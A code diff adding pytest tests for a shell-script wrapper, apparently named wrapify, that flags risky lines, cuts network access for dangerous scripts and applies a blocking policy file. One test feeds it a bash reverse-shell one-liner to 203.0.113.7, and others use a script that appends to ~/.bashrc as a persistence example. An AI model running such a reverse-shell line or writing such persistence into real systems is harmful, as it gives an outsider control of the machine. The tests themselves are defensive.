@@ -101,3 +101,32 @@ def test_says_what_to_expect_of_sudo_when_a_script_fails(wrapify: Wrapify) -> No
     assert says in wrapify("sh", text="sudo() { return 1; }; sudo true").stderr
     assert says not in wrapify("sh", text="sudo() { return 0; }; sudo true").stderr
     assert says not in wrapify("sh", text="echo sudoku; exit 1").stderr
+
+
+FINDINGS = """#!/bin/sh
+echo begins
+echo x >> ~/.bashrc
+"""
+
+
+def test_says_what_a_script_would_do_with_its_line(wrapify: Wrapify) -> None:
+    done = wrapify("sh", text=FINDINGS)
+    assert done.returncode == 0
+    assert "line 3: Writes ~/.bashrc, which runs in every new shell." in done.stderr
+    assert "line" not in wrapify("sh", text="echo hi").stderr
+    assert "line 3" not in wrapify("sh", "-q", text=FINDINGS).stderr
+
+
+def test_a_grave_script_runs_without_the_network(wrapify: Wrapify) -> None:
+    done = wrapify("sh", text="bash -i >& /dev/tcp/203.0.113.7/9 0>&1 || echo not reached")
+    assert "Gives somebody on the network a shell" in done.stderr
+    assert "it gets no network because of that" in done.stderr
+    assert "online" not in done.stderr.split("\n")[0]
+
+
+def test_what_a_policy_file_blocks_runs_nowhere(wrapify: Wrapify) -> None:
+    wrapify.put(".config/wrapify/policy.toml", '[rule]\npersistence = "block"\n')
+    done = wrapify("sh", text=FINDINGS)
+    assert done.returncode == 126
+    assert "begins" not in done.stdout
+    assert "rule.persistence" in done.stderr
